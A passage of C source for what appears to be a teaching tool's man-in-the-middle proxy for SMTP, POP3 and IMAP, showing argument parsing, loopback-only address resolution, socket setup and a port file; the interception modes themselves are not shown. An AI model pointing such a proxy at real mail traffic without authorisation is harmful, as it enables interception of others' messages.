	long v = strtol(ps, &end, 10);
	if (*ps < '0' || *ps > '9' || *end || v > 65535)
		return -1;
	*port = (int)v;
	return 0;
}

/* Resolves host:port into *ss, taking the first loopback address (any
 * address with nonlocal).  Returns 0, -1 (cannot resolve, message
 * printed) or -2 (only non-loopback addresses). */
static int
resolve(const char *host, int port, bool passive, bool nonlocal,
    struct sockaddr_storage *ss, socklen_t *len)
{
	struct addrinfo hints = { 0 }, *res, *ai;
	char serv[16];
	int rc = -2;
	hints.ai_socktype = SOCK_STREAM;
	hints.ai_flags = AI_NUMERICSERV | (passive ? AI_PASSIVE : 0);
	snprintf(serv, sizeof serv, "%d", port);
	int e = getaddrinfo(host, serv, &hints, &res);
	if (e) {
		fprintf(stderr, "mitm: %s: %s\n", host, gai_strerror(e));
		return -1;
	}
	for (ai = res; ai; ai = ai->ai_next) {
		if (!nonlocal && !is_loopback(ai->ai_addr))
			continue;
		memcpy(ss, ai->ai_addr, ai->ai_addrlen);
		*len = ai->ai_addrlen;
		rc = 0;
		break;
	}
	freeaddrinfo(res);
	return rc;
}

/* Opens the listening socket on ss.  Returns the fd or -1. */
static int
listen_on(const struct sockaddr_storage *ss, socklen_t len)
{
	int one = 1;
	int fd = socket(ss->ss_family, SOCK_STREAM | SOCK_NONBLOCK |
	    SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(fd, (const struct sockaddr *)ss, len) < 0 ||
	    listen(fd, 64) < 0) {
		int save = errno;
		close(fd);
		errno = save;
		return -1;
	}
	return fd;
}

/* Writes "PORT\n" to path via a temporary file and rename, so a reader
 * polling for it never sees it half written.  Returns 0 or -1. */
static int
write_port_file(const char *path, int port)
{
	char tmp[4096];
	int k = snprintf(tmp, sizeof tmp, "%s.tmp", path);
	if (k < 0 || (size_t)k >= sizeof tmp)
		return -1;
	FILE *f = fopen(tmp, "w");
	if (!f)
		return -1;
	fprintf(f, "%d\n", port);
	if (fclose(f) != 0 || rename(tmp, path) != 0)
		return -1;
	return 0;
}

/* Parses --mode's comma list into bits.  Returns 0, or -1 (message
 * printed) for an unknown mode. */
static int
parse_modes(const char *s, unsigned *bits)
{
	while (*s) {
		size_t n = strcspn(s, ",");
		int i;
		for (i = 0; mode_tab[i].name; i++)
			if (strlen(mode_tab[i].name) == n &&
			    strncmp(mode_tab[i].name, s, n) == 0)
				break;
		if (!mode_tab[i].name) {
			fprintf(stderr, "mitm: unknown mode \"%.*s\" (see "
			    "mailsh mitm --help)\n", (int)n, s);
			return -1;
		}
		*bits |= mode_tab[i].bit;
		s += n + (s[n] == ',');
	}
	return 0;
}

int
mitm_main(int argc, char **argv)
{
	static struct mitm m;
	static const struct option lopts[] = {
		{ "listen", required_argument, NULL, 'l' },
		{ "port", required_argument, NULL, 'P' },
		{ "to", required_argument, NULL, 't' },
		{ "mode", required_argument, NULL, 'm' },
		{ "proto", required_argument, NULL, 'p' },
		{ "port-file", required_argument, NULL, 'F' },
		{ "allow-nonlocal", no_argument, NULL, 'N' },
		{ "quiet", no_argument, NULL, 'q' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	char lhost[256] = "", thost[256], shown[NI_MAXHOST], modes[160] = "";
	const char *listen_arg = NULL, *port_file = NULL;
	struct sockaddr_storage lss;
	socklen_t llen = 0;
	bool nonlocal = false;
	int lport = -1, tport = -1, c, rc;

	m.to = NULL;
	m.proto = NULL;
	m.modes = 0;
	while ((c = getopt_long(argc, argv, "qh", lopts, NULL)) != -1) {
		switch (c) {
		case 'l': listen_arg = optarg; break;
		case 'P':
			if (split_hostport(optarg, lhost, sizeof lhost,
			    &lport) || lhost[0]) {
				fprintf(stderr, "mitm: bad --port \"%s\"\n",
				    optarg);
				return 2;
			}
			break;
		case 't': m.to = optarg; break;
		case 'm':
			if (parse_modes(optarg, &m.modes))
				return 2;
			break;
		case 'p':
			if (!(m.proto = pp_proto_by_name(optarg))) {
				fprintf(stderr, "mitm: unknown protocol \"%s\":"
				    " use smtp, pop3 or imap\n", optarg);
				return 2;
			}
			break;
		case 'F': port_file = optarg; break;
		case 'N': nonlocal = true; break;
		case 'q': m.quiet = true; break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (listen_arg && split_hostport(listen_arg, lhost, sizeof lhost,
	    &lport)) {
		fprintf(stderr, "mitm: bad --listen \"%s\": want [ADDR:]PORT"
		    "\n", listen_arg);
		return 2;
	}
	if (optind < argc || lport < 0 || !m.to ||
	    split_hostport(m.to, thost, sizeof thost, &tport) ||
	    !thost[0] || tport == 0) {
		fprintf(stderr, "mitm: need --listen [ADDR:]PORT (or --port) "
		    "and --to HOST:PORT\n");
		usage(stderr);
		return 2;
	}
	if (!m.modes)
		m.modes = M_PASS;
	if (!m.proto) {
		m.proto = pp_proto_for_port(tport, &m.tls_target);
		for (int i = 0; !m.proto && lab_ports[i].port; i++)
			if (lab_ports[i].port == tport) {
				m.proto = pp_proto_by_name(lab_ports[i].proto);
				m.tls_target = lab_ports[i].tls;
			}
		if (!m.proto) {
			fprintf(stderr, "mitm: cannot tell the protocol from "
			    "port %d: use --proto smtp|pop3|imap\n", tport);
			return 2;
		}
	}
	if (!lhost[0])
		snprintf(lhost, sizeof lhost, "127.0.0.1");
	rc = resolve(lhost, lport, true, nonlocal, &lss, &llen);
	if (rc == -2)
		fprintf(stderr, "mitm: refusing to listen on %s: not a "
		    "loopback address (127.0.0.0/8, ::1); a classroom "
		    "setup needs --allow-nonlocal\n", lhost);
	if (rc)
		return rc == -2 ? 2 : 3;
	rc = resolve(thost, tport, false, nonlocal, &m.target,
	    &m.target_len);
	if (rc == -2)
		fprintf(stderr, "mitm: refusing to connect to %s: not a "
		    "loopback address (127.0.0.0/8, ::1); use "
		    "--allow-nonlocal\n", thost);
	if (rc)
		return rc == -2 ? 2 : 3;
	if ((m.lfd = listen_on(&lss, llen)) < 0) {
		fprintf(stderr, "mitm: cannot listen on %s port %d: %s\n",
		    lhost, lport, strerror(errno));
		return 3;
	}
	llen = sizeof lss;
	getsockname(m.lfd, (struct sockaddr *)&lss, &llen);
	if (getnameinfo((struct sockaddr *)&lss, llen, shown, sizeof shown,
	    NULL, 0, NI_NUMERICHOST))
		snprintf(shown, sizeof shown, "%s", lhost);
	lport = ntohs(lss.ss_family == AF_INET6 ?
	    ((struct sockaddr_in6 *)&lss)->sin6_port :
	    ((struct sockaddr_in *)&lss)->sin_port);
	for (int i = 0; mode_tab[i].name; i++)
		if (m.modes & mode_tab[i].bit)
			snprintf(modes + strlen(modes), sizeof modes -
			    strlen(modes), "%s%s", modes[0] ? "," : "",
			    mode_tab[i].name);

	setvbuf(stdout, NULL, _IOLBF, 0);
	struct sigaction sa = { 0 };
	sa.sa_handler = on_signal;
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGTERM, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	say(NULL, "listening on %s %d -> %s (modes: %s)", shown, lport, m.to,
	    modes);
	say(NULL, "protocol %s%s", m.proto->name, m.tls_target ?
	    ", implicit TLS: the proxy only sees encrypted bytes" : "");
	if (port_file && write_port_file(port_file, lport) < 0) {
		fprintf(stderr, "mitm: cannot write %s: %s\n", port_file,
		    strerror(errno));
		close(m.lfd);
		return 3;
	}
	rc = run(&m);
	close(m.lfd);
	return rc;
}
